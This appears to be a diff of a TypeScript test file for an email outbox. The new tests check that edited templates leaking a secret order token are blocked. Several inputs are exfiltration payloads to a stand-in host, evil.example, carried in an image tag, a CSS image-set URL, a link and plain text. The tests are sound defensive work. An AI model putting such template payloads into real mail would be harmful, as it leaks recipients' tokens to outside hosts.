@@ -75,8 +75,11 @@ function outbox(mails: readonly QueuedMail[], edited: object | null = null) {
     }
     if (path === 'rpc/mail_template') {
       const { key } = JSON.parse(call.body);
-      if (key === 'template-test') return Response.json({ ...template, key, edited: null });
-      return Response.json(key === template.key ? { ...template, edited } : { key: null, edited: null });
+      const secrets = ['token'];
+      if (key === 'template-test') return Response.json({ ...template, key, secrets, edited: null });
+      return Response.json(
+        key === template.key ? { ...template, secrets, edited } : { key: null, secrets, edited: null },
+      );
     }
     if (path === 'rpc/record_template_failure') {
       failures.push(JSON.parse(call.body));
@@ -145,12 +148,51 @@ test('an edited template that cannot be filled in is reported, and the built-in 
   expect(records).toEqual([{ email_id: 'm1', status: 'sent', error: null }]);
 });
 
+test('an edited template that the database would refuse today is reported, and the built-in one is sent', async () => {
+  const { handler, failures, records } = outbox([mail('m1')], {
+    id: 'v1',
+    subject: 'Yours',
+    html: '<p>Dear</p>',
+    text: 'Dear',
+    problem: 'Line 1: Styles can only …',
+  });
+  expect(await (await handler(run())).json()).toEqual({ sent: 1, failed: 0 });
+  expect((await PostalMime.parse(inbox[0]?.raw ?? '')).subject).toBe('Order SB-7K2M9P');
+  expect(failures).toEqual([{ version_id: 'v1', failure: 'Line 1: Styles can only …' }]);
+  expect(records).toEqual([{ email_id: 'm1', status: 'sent', error: null }]);
+});
+
+test.each([
+  ['a picture of another site', '<img src="http://evil.example/x">', ''],
+  ['a style that loads', `<p style="background:image-set('http://evil.example/{{token}}' 1x)">x</p>`, ''],
+  ['a link with the secret', '<a href="http://evil.example/{{token}}">x</a>', ''],
+  ['the secret in words', '<p>{{token}}</p>', ''],
+  ['the secret in plain text', '<p>x</p>', 'evil.example/{{token}}'],
+])('what comes out with %s is not sent, whatever the database let through', async (_, html, text) => {
+  const payload = { reference: 'SB-7K2M9P', first_name: 'Ada', token: 's3cr3t-0f-an-order' };
+  const { handler, failures } = outbox([mail('m1', { payload })], { id: 'v1', subject: 'Yours', html, text });
+  expect(await (await handler(run())).json()).toEqual({ sent: 1, failed: 0 });
+  const raw = inbox[0]?.raw.toString() ?? '';
+  expect(raw).not.toMatch(/evil|s3cr3t/);
+  // What admins read tells no secret either.
+  expect(failures).toEqual([{ version_id: 'v1', failure: expect.not.stringMatching(/evil|s3cr3t/) }]);
+});
+
+test('a test with what no mail may say is not sent', async () => {
+  const draft = { subject: '[Test]', html: '<img src="http://evil.example/x">', text: 'x' };
+  const payload = { reference: template.key, draft, sample: {} };
+  const { handler, records } = outbox([mail('m1', { template: 'template-test', payload })]);
+  expect(await (await handler(run())).json()).toEqual({ sent: 0, failed: 1 });
+  expect(inbox).toEqual([]);
+  expect(records).toMatchObject([{ status: 'failed', error: expect.stringContaining('another site') }]);
+});
+
 test('a test of an unsaved mail brings its own template and words', async () => {
   const draft = { subject: '[Test] {{reference}}', html: '<p>{{first_name}}</p>', text: '{{first_name}}' };
   const { handler } = outbox([
     mail('m1', {
       template: 'template-test',
-      payload: { draft, sample: { reference: 'SB-1', first_name: '<i>' } },
+      payload: { reference: template.key, draft, sample: { reference: 'SB-1', first_name: '<i>' } },
     }),
   ]);
   expect(await (await handler(run())).json()).toEqual({ sent: 1, failed: 0 });
